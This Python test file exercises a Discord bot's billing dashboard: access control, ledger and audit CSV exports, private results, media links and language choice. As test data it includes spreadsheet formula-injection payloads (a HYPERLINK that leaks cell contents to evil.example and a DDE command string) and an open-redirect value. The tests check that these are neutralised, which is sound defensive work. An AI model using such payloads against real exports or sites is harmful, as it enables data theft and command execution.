"""The dashboard as an admin and a member use it: sign in with Discord, see a server's money,
export the ledger, find their results; on both engines, against the Discord emulator."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from decimal import Decimal

import pytest

from bot.dashboard.csv_export import LEDGER_COLUMNS
from bot.domain import Kind
from tests.support.dashboard_site import Site, open_site
from tests.support.stack import Stack


@pytest.fixture
async def site(stack: Stack, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Site]:
    async with open_site(stack.services, stack.clock, monkeypatch) as opened:
        yield opened


def dollars(cents: Decimal) -> Decimal:
    return cents / 100


def page_figure(body: str, element_id: str) -> str:
    found = re.search(rf'id="{element_id}">\$([0-9.]+)<', body)
    assert found is not None, element_id
    return found.group(1)


async def test_signed_out_every_page_sends_to_the_front_page(site: Site) -> None:
    browser = site.browser()
    for path in (
        "/servers",
        f"/servers/{site.guild_id}",
        f"/servers/{site.guild_id}/spend",
        f"/servers/{site.guild_id}/ledger",
        f"/servers/{site.guild_id}/ledger.csv",
        f"/servers/{site.guild_id}/audit",
        f"/servers/{site.guild_id}/gallery",
        "/me",
    ):
        response = await browser.get(path)
        assert (response.status, response.headers["Location"]) == (302, "/"), path
    home = await browser.text("/")
    assert 'href="/auth/login"' in home and "Sign in with Discord" in home


async def test_an_admin_signs_in_and_the_figures_equal_usage(site: Site) -> None:
    """Overview, Spend and the CSV export add up to /usage's month, to the micro-cent."""
    await site.charge("0.35", prompt="a red kite", kind=Kind.VIDEO, model="kling")
    await site.charge("1.000001", user_id=site.owner_id)
    await site.charge("12.5", prompt='=HYPERLINK("http://evil.example/?"&A1,"click")')
    await site.charge("99", guild_id=site.other_guild_id)  # another server's: never counted
    site.clock.advance(3600)
    report = await site.services.billing.report(site.guild_id)
    assert report.month_cents == Decimal("13.850001")

    browser = site.browser()
    signed = await browser.sign_in(site.owner_id)
    assert (signed.status, signed.headers["Location"]) == (302, "/servers")
    servers = await browser.text("/servers")
    assert f'href="/servers/{site.guild_id}"' in servers
    assert f'href="/servers/{site.other_guild_id}"' not in servers

    overview = await browser.text(f"/servers/{site.guild_id}")
    assert Decimal(page_figure(overview, "month-spend")) == dollars(report.month_cents)
    spend = await browser.text(f"/servers/{site.guild_id}/spend?days=7")
    assert Decimal(page_figure(spend, "usage-month")) == dollars(report.month_cents)
    assert Decimal(page_figure(spend, "period-total")) == dollars(report.month_cents)
    assert "<svg" in spend and "By model" in spend and "kling" in spend

    ledger = await browser.text(f"/servers/{site.guild_id}/ledger")
    assert Decimal(page_figure(ledger, "ledger-total")) == dollars(report.month_cents)
    assert "a red kite" in ledger

    response = await browser.get(f"/servers/{site.guild_id}/ledger.csv")
    assert response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(await response.text())))
    assert tuple(rows[0]) == LEDGER_COLUMNS
    lines = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert sum(Decimal(line["amount_usd"]) for line in lines) == dollars(report.month_cents)
    assert {line["amount_usd"] for line in lines} == {"0.003500", "0.01000001", "0.125000"}
    formula = next(line for line in lines if "HYPERLINK" in line["prompt"])
    assert formula["prompt"].startswith("'=HYPERLINK(")  # text to a spreadsheet, not a formula
    kite = next(line for line in lines if line["prompt"] == "a red kite")
    assert (kite["kind"], kite["model"], kite["status"], kite["member"]) == (
        "video",
        "kling",
        "pending",
        "member",
    )
    assert kite["job_id"] and kite["task_id"].startswith("task-")
    assert kite["time"].endswith("Z")


async def test_ledger_filters_and_pages(site: Site) -> None:
    for i in range(60):
        await site.charge("1", model="flux" if i % 2 else "sdxl", at=site.clock.time() + i)
    await site.charge("5", user_id=site.owner_id, model="sdxl", at=site.clock.time() + 100)
    browser = site.browser()
    await browser.sign_in(site.owner_id)
    first = await browser.text(f"/servers/{site.guild_id}/ledger?model=flux")
    assert page_figure(first, "ledger-total") == "0.30"
    assert "Older charges" not in first  # 30 lines: one page
    everything = await browser.text(f"/servers/{site.guild_id}/ledger")
    following = re.search(r'rel="next" href="\?([^"]+)"', everything)
    assert following is not None
    second = await browser.text(
        f"/servers/{site.guild_id}/ledger?{following.group(1).replace('&amp;', '&')}"
    )
    assert second.count("<tr><td>") == 61 - 50
    mine = await browser.text(f"/servers/{site.guild_id}/ledger?member={site.owner_id}")
    assert page_figure(mine, "ledger-total") == "0.05"
    bad = await browser.text(f"/servers/{site.guild_id}/ledger?since=yesterday", status=400)
    assert "From is a date like 2026-01-31." in bad


async def test_a_member_sees_their_results_and_no_server_page(site: Site) -> None:
    mine = await site.charge(
        "2", prompt="my kite", kind=Kind.VIDEO, outputs=("https://files.example/mine.mp4",)
    )
    await site.charge(
        "3",
        user_id=site.owner_id,
        prompt="the owner's kite",
        kind=Kind.VIDEO,
        outputs=("https://files.example/theirs.mp4",),
    )
    browser = site.browser()
    await browser.sign_in(site.member_id)
    servers = await browser.text("/servers")
    assert f"/servers/{site.guild_id}" not in servers
    me = await browser.text("/me")
    assert "my kite" in me and "the owner's kite" not in me
    assert f'href="/results/{mine}"' in me
    assert f'href="/media/{mine}/0"' in await browser.text(f"/results/{mine}")
    assert "$0.02" in me  # this month's spend in the server
    for path in ("", "/spend", "/ledger", "/ledger.csv", "/audit", "/audit.csv", "/gallery"):
        assert (await browser.get(f"/servers/{site.guild_id}{path}")).status == 404, path


async def test_gallery_and_media_links_fetch_a_fresh_discord_url(site: Site) -> None:
    posted = await message_with_file(site, site.channel_id)  # the card, with its file
    job = await site.charge(
        "2",
        prompt="kite at dusk",
        kind=Kind.VIDEO,
        outputs=("https://files.example/dusk.mp4",),
        message_id=posted,
    )
    browser = site.browser()
    await browser.sign_in(site.owner_id)
    gallery = await browser.text(f"/servers/{site.guild_id}/gallery")
    assert "kite at dusk" in gallery and f'href="/results/{job}"' in gallery
    view = await browser.text(f"/results/{job}")
    assert f"https://discord.com/channels/{site.guild_id}/{site.channel_id}/{posted}" in view
    response = await browser.get(f"/media/{job}/0")
    assert response.status == 302
    assert response.headers["Location"].startswith(site.emulator.base_url + "/attachments/")
    fetched = [r for r in site.emulator.requests if r.path.endswith(f"/messages/{posted}")]
    assert fetched and fetched[-1].method == "GET"
    stranger = site.browser()
    await stranger.sign_in(site.other_owner_id)
    assert (await stranger.get(f"/media/{job}/0")).status == 404


async def message_with_file(site: Site, channel_id: int, files: int = 1) -> int:
    """Post a message with attachments as the bot would (REST, the bot's token)."""
    import aiohttp

    form = aiohttp.FormData()
    form.add_field("payload_json", '{"content": "done"}', content_type="application/json")
    for n in range(files):
        name = "task.mp4" if files == 1 else f"take{n + 1}.png"
        form.add_field(f"files[{n}]", b"\x00file", filename=name, content_type="video/mp4")
    async with aiohttp.ClientSession() as http:
        answer = await http.post(
            f"{site.emulator.api_base_url}/channels/{channel_id}/messages",
            data=form,
            headers={"Authorization": f"Bot {site.emulator.bot_token}"},
        )
        assert answer.status == 200, await answer.text()
        return int((await answer.json())["id"])


async def test_each_take_of_one_card_opens_its_own_file(site: Site) -> None:
    """Four takes share one card: its files are the finished takes' in order. A take that
    failed has none, so the third file is the fourth take's."""
    from bot.domain import JobStatus

    card = await message_with_file(site, site.channel_id, files=3)
    takes = []
    for n in range(1, 5):
        outputs = () if n == 3 else (f"https://files.example/{n}.png",)
        job = await site.charge("1", prompt="four kites", outputs=outputs, message_id=card)
        assert job is not None
        takes.append(job)
    db = site.services.db
    await db.sequences.add_takes(takes)
    await db.jobs.finish(takes[2], JobStatus.FAILED, (), "refused", site.clock.time())
    browser = site.browser()
    await browser.sign_in(site.owner_id)
    opened = []
    for job in (takes[0], takes[1], takes[3]):
        response = await browser.get(f"/media/{job}/0")
        assert response.status == 302
        opened.append(response.headers["Location"].split("?")[0].rsplit("/", 1)[-1])
    assert opened == ["take1.png", "take2.png", "take3.png"]
    # Not every take's file on the card (one did not fit): the service's own link, never
    # another take's file.
    lone = await message_with_file(site, site.channel_id, files=1)
    pair = []
    for n in (5, 6):
        job = await site.charge(
            "1", prompt="two kites", outputs=(f"https://files.example/{n}.png",), message_id=lone
        )
        assert job is not None
        pair.append(job)
    await db.sequences.add_takes(pair)
    second = await browser.get(f"/media/{pair[1]}/0")
    assert second.headers["Location"] == "https://files.example/6.png"


async def test_audit_log_filters_and_exports(site: Site) -> None:
    db = site.services.db
    from bot.domain import AuditEntry

    await db.policy.add_audit(
        AuditEntry(site.guild_id, site.owner_id, "monthly budget", "—", "$50", site.clock.time())
    )
    await db.policy.add_audit(
        AuditEntry(site.guild_id, site.owner_id, "blocked term", "—", "=cmd|' /C calc'!A0", 1.0)
    )
    browser = site.browser()
    await browser.sign_in(site.owner_id)
    page = await browser.text(f"/servers/{site.guild_id}/audit?what=budget")
    assert "monthly budget" in page and "blocked term" not in page
    exported = await browser.get(f"/servers/{site.guild_id}/audit.csv")
    rows = list(csv.reader(io.StringIO(await exported.text())))
    assert rows[0] == ["time", "member_id", "member", "setting", "old", "new", "via"]
    assert {r[6] for r in rows[1:]} == {"discord"}
    assert [r[5] for r in rows[1:] if r[3] == "blocked term"] == ["'=cmd|' /C calc'!A0"]


async def test_private_results_are_hidden_from_viewers_who_are_not_admins(site: Site) -> None:
    """As ``/jobs show``: a member with private results on keeps them from a dashboard viewer
    (a granted role, not Manage Server): not in the Gallery, not through /media, their
    prompts not in the Ledger nor its CSV. Admins and the member see them."""

    viewer_id = site.emulator.add_user("treasurer").id
    site.emulator.world.ensure_member(site.guild_id, viewer_id)
    role = site.emulator.add_role(site.guild_id, "Treasurers")
    site.emulator.give_role(site.guild_id, viewer_id, role.id)
    await site.services.dashboard.set_access_role(site.guild_id, role.id, "view")
    await site.services.members.update(site.member_id, {"private": True})
    hidden = await site.charge(
        "2", prompt="a secret kite", outputs=("https://files.example/secret.png",)
    )
    await site.charge(
        "3",
        user_id=site.owner_id,
        prompt="an open kite",
        outputs=("https://files.example/open.png",),
    )
    ledger_url = f"/servers/{site.guild_id}/ledger"
    viewer = site.browser()
    await viewer.sign_in(viewer_id)
    gallery = await viewer.text(f"/servers/{site.guild_id}/gallery")
    assert "an open kite" in gallery and "a secret kite" not in gallery
    assert f"/media/{hidden}/0" not in gallery
    assert (await viewer.get(f"/media/{hidden}/0")).status == 404
    ledger = await viewer.text(ledger_url)
    assert "an open kite" in ledger and "a secret kite" not in ledger
    assert page_figure(ledger, "ledger-total") == "0.05"  # the charge still counts
    exported = await (await viewer.get(f"{ledger_url}.csv")).text()
    assert "an open kite" in exported and "a secret kite" not in exported
    assert len(list(csv.reader(io.StringIO(exported)))) == 3  # its line, without the prompt
    for who in (site.owner_id, site.member_id):  # an admin, and the member themselves
        browser = site.browser()
        await browser.sign_in(who)
        if who == site.owner_id:
            assert "a secret kite" in await browser.text(f"/servers/{site.guild_id}/gallery")
            assert "a secret kite" in await browser.text(ledger_url)
            assert "a secret kite" in await (await browser.get(f"{ledger_url}.csv")).text()
        else:
            assert "a secret kite" in await browser.text("/me")
        assert (await browser.get(f"/media/{hidden}/0")).status == 302


async def test_a_page_reads_the_browsers_language_and_the_menu_keeps_another(site: Site) -> None:
    browser = site.browser()
    german = await browser.get("/", headers={"Accept-Language": "de-CH, de;q=0.9, en;q=0.5"})
    body = await german.text()
    assert german.headers["Content-Language"] == "de"
    assert '<html lang="de">' in body and "Mit Discord anmelden" in body
    unknown = await (await browser.get("/", headers={"Accept-Language": "ko"})).text()
    assert "Sign in with Discord" in unknown
    # The menu: kept in the lang cookie; only a path of this site is returned to.
    chosen = await browser.get("/language?lang=ja&next=//evil.example/x")
    assert (chosen.status, chosen.headers["Location"]) == (303, "/")
    assert chosen.cookies["lang"].value == "ja"
    japanese = await browser.get("/", headers={"Accept-Language": "de"})
    assert "Discord でサインイン" in await japanese.text()
    ignored = await browser.get("/language?lang=xx&next=/servers")
    assert ignored.headers["Location"] == "/servers" and "lang" not in ignored.cookies


async def test_a_members_amounts_and_errors_are_in_their_language(site: Site) -> None:
    await site.charge("1", prompt="kites")
    browser = site.browser()
    await browser.sign_in(site.owner_id)
    await browser.get("/language?lang=de&next=/")
    ledger = await browser.text(f"/servers/{site.guild_id}/ledger")
    total = re.search(r'id="ledger-total">([^<]+)<', ledger)
    assert total is not None and total.group(1).endswith("\xa0$") and "," in total.group(1)
    bad = await browser.text(f"/servers/{site.guild_id}/ledger?since=31.01.2026", status=400)
    assert "Von ist ein Datum wie 2026-01-31." in bad
